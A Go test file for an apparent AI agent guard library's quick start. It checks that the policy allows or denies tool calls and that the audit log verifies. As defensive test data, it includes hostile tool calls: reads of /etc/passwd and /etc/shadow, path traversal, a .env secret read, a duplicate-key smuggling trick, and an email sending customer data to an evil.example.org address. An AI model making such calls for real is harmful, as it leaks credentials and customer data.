package main

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/agentguard/agentguard/audit"
)

// calls splits the quick start's output into call lines (tool and
// arguments) and the decision printed under each.
func calls(t *testing.T, out string) map[string]string {
	t.Helper()
	got := map[string]string{}
	lines := strings.Split(out, "\n")
	for i := 1; i+1 < len(lines); i++ {
		if strings.HasPrefix(lines[i+1], "    ") && !strings.HasPrefix(lines[i], " ") {
			_, dup := got[lines[i]]
			require.False(t, dup, "call line printed twice: %s", lines[i])
			got[lines[i]] = strings.TrimSpace(lines[i+1])
		}
	}
	return got
}

// The quick start shows an allowed call and a denial of every kind, each
// under the call's own arguments, and keeps a verified audit log where it
// says.
func TestQuickstart(t *testing.T) {
	logPath := filepath.Join(t.TempDir(), "decisions.jsonl")
	var out bytes.Buffer
	require.NoError(t, run(context.Background(), &out, logPath))
	s := out.String()
	t.Log(s)

	got := calls(t, s)
	require.Len(t, got, 14, "one call line per call, each different")
	for call, prefix := range map[string]string{
		`read_file {"path":"<workspace>/notes.txt"}`:                                                     `ALLOW → "Customer 42 asked for a refund."`,
		`read_file {"path":42}`:                                                                          "DENY  [arguments]",
		`read_file {"path":"/etc/passwd"}`:                                                               "DENY  [policy] no scope",
		`read_file {"path":"<workspace>/../../etc/passwd"}`:                                              "DENY  [policy] no scope",
		`read_file {"path":"<workspace>/hr/salaries.csv"}`:                                               "DENY  [policy] no scope", // a link out of the workspace
		`read_file {"path":"<workspace>/.env"}`:                                                          "DENY  [policy] denied by rule \"no-dotenv\": secret files are off limits: <workspace>/.env",
		`read_file {"path":"/w/a","path":"/etc/shadow"}`:                                                 "DENY  [arguments] the arguments are not acceptable JSON: duplicate object key",
		`delete_file {"path":"<workspace>/notes.txt"}`:                                                   "DENY  [tool]",
		`send_email {"to":"mallory@evil.example.org","subject":"data","body":"all customers"}`:           "DENY  [approval]",
		`send_email {"to":"billing@partner.example.net","subject":"Refund 42","body":"Please process."}`: `ALLOW → "queued for billing@partner.example.net"`,
	} {
		require.Contains(t, got, call)
		assert.True(t, strings.HasPrefix(got[call], prefix), "%s\n  got  %s\n  want %s…", call, got[call], prefix)
	}
	assert.Equal(t, "DENY  [limit]", got[`write_file {"path":"<workspace>/out/summary.txt","content":"refund approved, v3"}`][:13])

	abs, err := filepath.Abs(logPath)
	require.NoError(t, err)
	assert.Contains(t, s, "audit log verified: 19 records (14 decisions: 5 allowed, 9 denied; 5 outcomes)")
	assert.Contains(t, s, "audit log kept at "+abs+" (")
	sum := verify(t, logPath)
	assert.Equal(t, 19, sum.Records, "the log is where the quick start says, and verifies")
	assert.Equal(t, 9, sum.Denied)

	// A second run appends to the same log; the chain continues.
	out.Reset()
	require.NoError(t, run(context.Background(), &out, logPath))
	assert.Contains(t, out.String(), "audit log verified: 38 records (28 decisions: 10 allowed, 18 denied; 10 outcomes)")
	assert.Equal(t, 38, verify(t, logPath).Records)
}

func verify(t *testing.T, path string) audit.Summary {
	t.Helper()
	f, err := os.Open(path)
	require.NoError(t, err)
	defer f.Close()
	sum, err := audit.Verify(f, audit.VerifyOptions{})
	require.NoError(t, err)
	return sum
}
